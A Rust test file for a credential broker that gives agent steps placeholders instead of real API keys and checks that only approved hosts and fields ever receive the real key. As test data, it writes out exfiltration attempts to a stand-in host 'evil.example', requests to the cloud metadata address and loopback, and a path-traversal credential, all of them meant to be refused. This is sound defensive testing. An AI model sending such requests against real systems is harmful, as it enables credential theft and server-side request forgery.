//! The broker against real servers, with the test in the step's place.

use keyhole_host_api::broker::{AccessError, AuditMode, Decision, Egress, SendError};
use keyhole_tests::host::{Host, audit_text, member, request, scope, send};
use keyhole_tests::server::{Authority, Server, acme, answer, json};
use serde_json::json;

const KEY: &str = "acme_live_9fQ2xT7bLm4ZcV8pRk3WsYhN";

fn denied(outcome: Result<keyhole_tests::host::Answer, SendError>) -> String {
    match outcome {
        Ok(answer) => panic!("it was sent: {} {}", answer.status, String::from_utf8_lossy(&answer.body)),
        Err(SendError::Refused(reason)) => reason,
        Err(other) => panic!("not refused, but {other}"),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn sealed_the_service_gets_the_key_and_the_step_the_placeholder() {
    let (host, authority) = (Host::new().await, Authority::default());
    let server = acme(&authority, KEY);
    let broker = host.broker(&authority, &[("api.acme.example", &server)], Egress::default());
    let account = host.connect("alice", "acme", &[("api_key", KEY)]).await;
    let session = broker.session(scope("alice", &[("acme", "acme", Some(&account))]));

    let injected = session.account("acme").await.unwrap();
    let placeholder = injected.auth[0].value.clone();
    assert!(injected.auth[0].secret && placeholder.starts_with("acme_live_") && placeholder != KEY);
    assert_eq!(placeholder.len(), "acme_live_".len() + 4 + 32, "too short a key for its length to be kept");
    assert_eq!(injected.headers, [("authorization".to_owned(), format!("Bearer {placeholder}"))]);

    let bearer = format!("Bearer {placeholder}");
    let me = send(&session, request("GET", "https://api.acme.example/v1/me", &[("authorization", &bearer)], "")).await;
    assert_eq!(me.unwrap().json()["id"], "u-1");

    let echo = request("POST", "https://api.acme.example/v1/echo?a=b", &[("authorization", &bearer)], "hello");
    let echo = send(&session, echo).await.unwrap().json();
    assert_eq!(echo["headers"]["authorization"], bearer);
    assert_eq!(echo["body"], "hello");
    assert_eq!(server.received()[1].header("authorization"), Some(format!("Bearer {KEY}").as_str()));

    // The query, and Basic, as the definition allows.
    let url = format!("https://api.acme.example/v1/echo?x=%20&key={placeholder}&y=1");
    let echo = send(&session, request("GET", &url, &[], "")).await.unwrap().json();
    assert_eq!(echo["target"], format!("/v1/echo?x=%20&key={placeholder}&y=1"));
    assert_eq!(server.received()[2].target, format!("/v1/echo?x=%20&key={KEY}&y=1"));

    let audit = audit_text(broker.audit()).await;
    assert!(!audit.contains(KEY) && !audit.contains(&placeholder) && !audit.contains("key="), "{audit}");
    let requests = session.requests();
    assert_eq!(requests.len(), 3);
    assert!(requests.iter().all(|r| r.decision == Decision::Allowed && r.status == Some(200) && r.reason.is_none()));
    assert_eq!(session.redact(&bearer), "Bearer ‹acme.api_key›");
}

#[tokio::test(flavor = "multi_thread")]
async fn bound_a_placeholder_goes_nowhere_but_to_its_hosts_and_places() {
    let (host, authority) = (Host::new().await, Authority::default());
    let server = acme(&authority, KEY);
    let evil = Server::http(&authority, &["evil.example"], |_| answer(200, "text/plain", "got it"));
    let broker = host.broker(&authority, &[("api.acme.example", &server), ("evil.example", &evil)], Egress::default());
    let account = host.connect("alice", "acme", &[("api_key", KEY)]).await;
    let mut open = scope("alice", &[("acme", "acme", Some(&account))]);
    open.allow_hosts.push("evil.example".parse().unwrap());
    let session = broker.session(open);
    let placeholder = session.account("acme").await.unwrap().auth[0].value.clone();
    let bearer = format!("Bearer {placeholder}");
    let encoded: String = placeholder.bytes().map(|b| format!("%{b:02x}")).collect();
    let escaped: String = placeholder.bytes().map(|b| format!("\\u{b:04x}")).collect();
    // One character of what is drawn at random, behind the prefix and the marker.
    let (head, tail) = (&placeholder[..20], &placeholder[21..]);
    let other = if placeholder.as_bytes()[20] == b'Z' { "Y" } else { "Z" };
    let altered = format!("Bearer {head}{other}{tail}");
    let api = "https://api.acme.example/v1/echo";

    for (what, request) in [
        ("another host", request("GET", "https://evil.example/", &[("authorization", &bearer)], "")),
        ("plain http", request("GET", "http://api.acme.example/v1/me", &[("authorization", &bearer)], "")),
        ("another port", request("GET", "https://api.acme.example:8443/", &[("authorization", &bearer)], "")),
        ("another header", request("GET", api, &[("x-key", &placeholder)], "")),
        ("another template", request("GET", api, &[("authorization", &format!("Token {placeholder}"))], "")),
        ("the path", request("GET", &format!("{api}/{placeholder}"), &[], "")),
        ("the path, encoded", request("GET", &format!("{api}/{encoded}"), &[], "")),
        ("another query parameter", request("GET", &format!("{api}?q={placeholder}"), &[], "")),
        ("the body", request("POST", api, &[], &placeholder)),
        ("the body, JSON-escaped", request("POST", api, &[], &format!("\"{escaped}\""))),
        ("the body, percent-encoded", request("POST", api, &[], &encoded)),
        ("a header's name", request("GET", api, &[(&placeholder.to_lowercase(), "x"), ("authorization", &bearer)], "")),
        ("a denied path", request("POST", "https://api.acme.example/v1/keys", &[("authorization", &bearer)], "")),
        ("a range", request("GET", api, &[("authorization", &bearer), ("range", "bytes=0-1")], "")),
        ("an altered one", request("GET", api, &[("authorization", &altered)], "")),
        ("twice", request("GET", api, &[("authorization", &bearer), ("authorization", &bearer)], "")),
    ] {
        let named = what == "a header's name";
        let outcome = send(&session, request).await;
        // Header names are lower case, where a placeholder is a worthless string.
        if named && outcome.is_ok() {
            continue;
        }
        let reason = denied(outcome);
        assert!(!reason.contains(&placeholder), "{what}: {reason}");
    }
    assert!(evil.received().is_empty());
    assert!(server.received().iter().all(|r| r.target == "/v1/echo" && r.header("x-key").is_none()));

    // Without a placeholder, the opened host is reached; another is not.
    assert_eq!(send(&session, request("GET", "https://evil.example/", &[], "")).await.unwrap().status, 200);
    let reason = denied(send(&session, request("GET", "https://other.example/", &[], "")).await);
    assert!(reason.contains("--allow-host other.example"), "{reason}");
}

#[tokio::test(flavor = "multi_thread")]
async fn bound_a_placeholder_of_another_run_is_refused_like_a_guessed_one() {
    let (host, authority) = (Host::new().await, Authority::default());
    let server = acme(&authority, KEY);
    let broker = host.broker(&authority, &[("api.acme.example", &server)], Egress::default());
    let account = host.connect("alice", "acme", &[("api_key", KEY)]).await;
    let first = broker.session(scope("alice", &[("acme", "acme", Some(&account))]));
    let second = broker.session(scope("alice", &[("acme", "acme", Some(&account))]));
    let of_first = first.account("acme").await.unwrap().auth[0].value.clone();
    second.account("acme").await.unwrap();
    let guessed = format!("acme_live_khp1{}", "0".repeat(32));
    let mut reasons = Vec::new();
    for value in [of_first, guessed] {
        let bearer = format!("Bearer {value}");
        let sent = request("GET", "https://api.acme.example/v1/me", &[("authorization", &bearer)], "");
        reasons.push(denied(send(&second, sent).await));
    }
    assert_eq!(reasons[0], reasons[1]);
    assert!(server.received().is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn checked_twice_a_revoke_works_on_the_next_request_of_a_run_under_way() {
    let (host, authority) = (Host::new().await, Authority::default());
    let server = acme(&authority, KEY);
    let broker = host.broker(&authority, &[("api.acme.example", &server)], Egress::default());
    let account = host.connect("alice", "acme", &[("api_key", KEY)]).await;
    let links = [("acme", "acme", Some(&account))];

    let refused = broker.session(scope("bob", &links)).account("acme").await;
    assert!(matches!(refused.err(), Some(AccessError::NoAccess(_))));

    host.accounts.grant(&member("alice"), &account, &member("bob")).await.unwrap();
    let session = broker.session(scope("bob", &links));
    let bearer = format!("Bearer {}", session.account("acme").await.unwrap().auth[0].value);
    let me = || request("GET", "https://api.acme.example/v1/me", &[("authorization", &bearer)], "");
    assert_eq!(send(&session, me()).await.unwrap().status, 200);

    host.accounts.revoke(&member("alice"), &account, &member("bob")).await.unwrap();
    let reason = denied(send(&session, me()).await);
    assert!(reason.contains("ask its owner for access"), "{reason}");
    assert_eq!(server.received().len(), 1);

    host.accounts.delete(&member("alice"), &account).await.unwrap();
    let deleted = broker.session(scope("alice", &links)).account("acme").await;
    assert!(matches!(deleted.err(), Some(AccessError::Deleted(_))));
}

#[tokio::test(flavor = "multi_thread")]
async fn an_access_error_says_which() {
    let (host, authority) = (Host::new().await, Authority::default());
    let broker = host.broker(&authority, &[], Egress::default());
    let account = host.connect("alice", "acme", &[("api_key", KEY)]).await;
    let session = broker.session(scope("alice", &[("acme", "acme", None), ("other", "slack", Some(&account))]));
    assert!(matches!(session.account("nope").await.err(), Some(AccessError::NotDeclared(_))));
    assert!(matches!(session.account("acme").await.err(), Some(AccessError::NotLinked(_))));
    assert!(matches!(session.account("other").await.err(), Some(AccessError::WrongApp { .. })));
}

#[tokio::test(flavor = "multi_thread")]
async fn sealed_an_echo_in_any_part_of_an_answer_is_scrubbed() {
    let (host, authority) = (Host::new().await, Authority::default());
    let server = Server::http(&authority, &["api.acme.example"], |request| {
        let key = request.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
        let hex: String = key.bytes().map(|b| format!("{b:02X}")).collect();
        let body = json!({ "raw": key, "hex": hex, "nested": format!("\"{key}\"") });
        let mut answer = json(500, &body);
        let headers = answer.headers_mut();
        headers.insert("x-echo", key.parse().unwrap());
        headers.insert("etag", "\"abc\"".parse().unwrap());
        headers.insert("location", format!("https://api.acme.example/?key={key}").parse().unwrap());
        answer
    });
    let broker = host.broker(&authority, &[("api.acme.example", &server)], Egress::default());
    let account = host.connect("alice", "acme", &[("api_key", KEY)]).await;
    let session = broker.session(scope("alice", &[("acme", "acme", Some(&account))]));
    let placeholder = session.account("acme").await.unwrap().auth[0].value.clone();
    let bearer = format!("Bearer {placeholder}");
    let got = send(&session, request("GET", "https://api.acme.example/", &[("authorization", &bearer)], "")).await;
    let got = got.unwrap();
    assert_eq!(got.headers["x-echo"], placeholder);
    assert!(!got.headers.contains_key("etag") && !got.headers.contains_key("content-length"));
    assert_eq!(got.json()["raw"], placeholder);
    let text = format!("{:?}{}", got.headers, String::from_utf8_lossy(&got.body));
    let hex: String = KEY.bytes().map(|b| format!("{b:02X}")).collect();
    assert!(!text.contains(KEY) && !text.contains(&hex), "{text}");
}

#[tokio::test(flavor = "multi_thread")]
async fn closed_on_failure_nothing_is_sent_when_an_address_is_not_open() {
    let (host, authority) = (Host::new().await, Authority::default());
    let server = acme(&authority, KEY);
    let account = host.connect("alice", "acme", &[("api_key", KEY)]).await;
    let resolve = vec![server.resolve("api.acme.example").parse().unwrap()];
    let egress = Egress { resolve, ca_certs: vec![authority.pem.clone()], ..Egress::default() };
    let broker = std::sync::Arc::new(keyhole_host_api::broker::Broker::new(
        host.store.clone(),
        host.accounts.clone(),
        host.accounts.catalog().clone(),
        egress,
    ));
    let mut open = scope("alice", &[("acme", "acme", Some(&account))]);
    for entry in ["http://169.254.169.254", "http://[::1]", "http://127.0.0.1"] {
        open.allow_hosts.push(entry.parse().unwrap());
    }
    let session = broker.session(open);
    let bearer = format!("Bearer {}", session.account("acme").await.unwrap().auth[0].value);
    let to_loopback = request("GET", "https://api.acme.example/v1/me", &[("authorization", &bearer)], "");
    let failed = send(&session, to_loopback).await.err().expect("loopback is closed").to_string();
    assert!(failed.contains("127.0.0.1") && failed.contains("--allow-range"), "{failed}");
    for url in ["http://169.254.169.254/latest/meta-data", "http://[::1]/", "http://127.0.0.1/"] {
        let failed = send(&session, request("GET", url, &[], "")).await.err().expect("closed").to_string();
        assert!(failed.contains("--allow-range"), "{failed}");
    }
    assert!(server.received().is_empty() && server.accepted() == 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn both_audit_modes_keep_one_use_for_each_request() {
    for audit in [AuditMode::Strict, AuditMode::Relaxed] {
        let (host, authority) = (Host::new().await, Authority::default());
        let server = acme(&authority, KEY);
        let broker = host.broker(&authority, &[("api.acme.example", &server)], Egress { audit, ..Egress::default() });
        let account = host.connect("alice", "acme", &[("api_key", KEY)]).await;
        let session = broker.session(scope("alice", &[("acme", "acme", Some(&account))]));
        let bearer = format!("Bearer {}", session.account("acme").await.unwrap().auth[0].value);
        for _ in 0..5 {
            let me = request("GET", "https://api.acme.example/v1/me", &[("authorization", &bearer)], "");
            send(&session, me).await.unwrap();
        }
        denied(
            send(&session, request("POST", "https://api.acme.example/v1/keys/x", &[("authorization", &bearer)], ""))
                .await,
        );
        broker.audit().flush().await.unwrap();
        let uses = broker.audit().uses(None).await.unwrap();
        assert_eq!(uses.len(), 6);
        assert!(uses[..5].iter().all(|u| u.status == Some(200) && u.bytes_in > 0 && u.account.is_some()));
        assert_eq!(uses[5].decision, Decision::Refused);
        // They were pooled. How soon a connection is free again is the scheduler's business.
        assert!(server.accepted() < 5, "{} connections for five requests", server.accepted());
    }
}

/// Everything that an encoding must keep from being read as something else.
const AWKWARD: &str = r#"k%2F"\/..&=+ é;{}"#;

#[tokio::test(flavor = "multi_thread")]
async fn bound_a_credential_arrives_exactly_in_the_path_and_in_bodies() {
    let (host, authority) = (Host::new().await, Authority::default());
    let server = Server::http(&authority, &["ledger.example"], |request| {
        answer(200, "text/plain", [request.target.as_bytes(), b"\n", &request.body].concat())
    });
    let broker = host.broker(&authority, &[("ledger.example", &server)], Egress::default());
    let account = host.connect("alice", "ledger", &[("token", AWKWARD)]).await;
    let session = broker.session(scope("alice", &[("ledger", "ledger", Some(&account))]));
    let placeholder = session.account("ledger").await.unwrap().auth[0].value.clone();
    let escaped: String = placeholder.bytes().map(|b| format!("\\u{b:04x}")).collect();
    let encoded: String = placeholder.bytes().map(|b| format!("%{b:02x}")).collect();

    // The path, plain and percent-encoded; the server decodes exactly the credential.
    for written in [&placeholder, &encoded] {
        let url = format!("https://ledger.example/bot{written}/getMe?a=1");
        let echoed = send(&session, request("GET", &url, &[], "")).await.unwrap();
        let target = server.received().last().unwrap().target.clone();
        let segment = target.strip_prefix("/bot").and_then(|t| t.strip_suffix("/getMe?a=1")).unwrap();
        assert_eq!(percent_encoding::percent_decode_str(segment).decode_utf8().unwrap(), AWKWARD);
        let echoed = String::from_utf8(echoed.body).unwrap();
        assert!(echoed.contains(&placeholder) && !echoed.contains(segment), "{echoed}");
        assert_eq!(session.requests().last().unwrap().path, "/bot‹ledger.token›/getMe");
    }

    let url = "https://ledger.example/entries";
    let json_type = [("content-type", "application/json; charset=utf-8")];
    for written in [&placeholder, &escaped] {
        let body = format!(r#"{{ "note":1.50, "auth": {{"token":"{written}" }},"note":2}}"#);
        send(&session, request("POST", url, &json_type, &body)).await.unwrap();
        let received = server.received().pop().unwrap();
        let expected = body.replace(&format!("\"{written}\""), &serde_json::to_string(AWKWARD).unwrap());
        assert_eq!(String::from_utf8_lossy(&received.body), expected, "nothing else is changed");
        assert_eq!(received.header("content-length"), Some(expected.len().to_string().as_str()));
    }

    let form_type = [("content-type", "application/x-www-form-urlencoded")];
    for written in [&placeholder, &encoded] {
        let body = format!("a=%20+b&token={written}&c");
        send(&session, request("POST", url, &form_type, &body)).await.unwrap();
        let received = String::from_utf8(server.received().pop().unwrap().body).unwrap();
        let value = received.strip_prefix("a=%20+b&token=").and_then(|body| body.strip_suffix("&c")).unwrap();
        assert!(!value.contains('+'));
        assert_eq!(percent_encoding::percent_decode_str(value).decode_utf8().unwrap(), AWKWARD);
    }

    let part_type = [("content-type", "multipart/form-data; boundary=b0")];
    let part =
        |name: &str, value: &str| format!("--b0\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n");
    let body = |token: &str| format!("{}{}--b0--\r\n", part("note", "n"), part("token", token));
    send(&session, request("POST", url, &part_type, &body(&placeholder))).await.unwrap();
    assert_eq!(String::from_utf8_lossy(&server.received().pop().unwrap().body), body(AWKWARD));

    // Anywhere else, or in a body that says to be something else.
    let sent = server.received().len();
    for (what, to, headers, body) in [
        ("another pointer", url, &json_type[..], format!(r#"{{"token":"{placeholder}"}}"#)),
        ("a member named twice", url, &json_type[..], format!(r#"{{"auth":{{"token":"{placeholder}","token":"x"}}}}"#)),
        ("beside text", url, &json_type[..], format!(r#"{{"auth":{{"token":"Bearer {placeholder}"}}}}"#)),
        (
            "the place and a note",
            url,
            &json_type[..],
            format!(r#"{{"auth":{{"token":"{placeholder}"}},"n":"{placeholder}"}}"#),
        ),
        ("a member's name", url, &json_type[..], format!(r#"{{"auth":{{"{placeholder}":1}}}}"#)),
        ("JSON that is a form", url, &form_type[..], format!(r#"{{"auth":{{"token":"{placeholder}"}}}}"#)),
        ("another field", url, &form_type[..], format!("note={placeholder}")),
        ("another part", url, &part_type[..], format!("{}--b0--\r\n", part("note", &placeholder))),
        ("no content type", url, &[][..], format!("token={placeholder}")),
        ("compressed, it says", url, &[form_type[0], ("content-encoding", "gzip")][..], format!("token={placeholder}")),
        ("another segment", &format!("https://ledger.example/x/bot{placeholder}"), &[][..], String::new()),
        ("a part of a segment", &format!("https://ledger.example/bot{placeholder}x"), &[][..], String::new()),
    ] {
        let reason = denied(send(&session, request("POST", to, headers, &body)).await);
        assert!(!reason.contains(&placeholder), "{what}: {reason}");
    }
    assert_eq!(server.received().len(), sent);
    assert!(!audit_text(broker.audit()).await.contains(&placeholder));
}

#[tokio::test(flavor = "multi_thread")]
async fn bound_a_credential_is_no_step_in_the_path() {
    let (host, authority) = (Host::new().await, Authority::default());
    let server = Server::http(&authority, &["ledger.example"], |_| answer(200, "text/plain", ""));
    let broker = host.broker(&authority, &[("ledger.example", &server)], Egress::default());
    let account = host.connect("alice", "ledger", &[("token", "../../admin")]).await;
    let session = broker.session(scope("alice", &[("ledger", "ledger", Some(&account))]));
    let placeholder = session.account("ledger").await.unwrap().auth[0].value.clone();
    let url = format!("https://ledger.example/bot{placeholder}/x");
    send(&session, request("GET", &url, &[], "")).await.unwrap();
    assert_eq!(server.received()[0].target, "/bot..%2F..%2Fadmin/x");
}
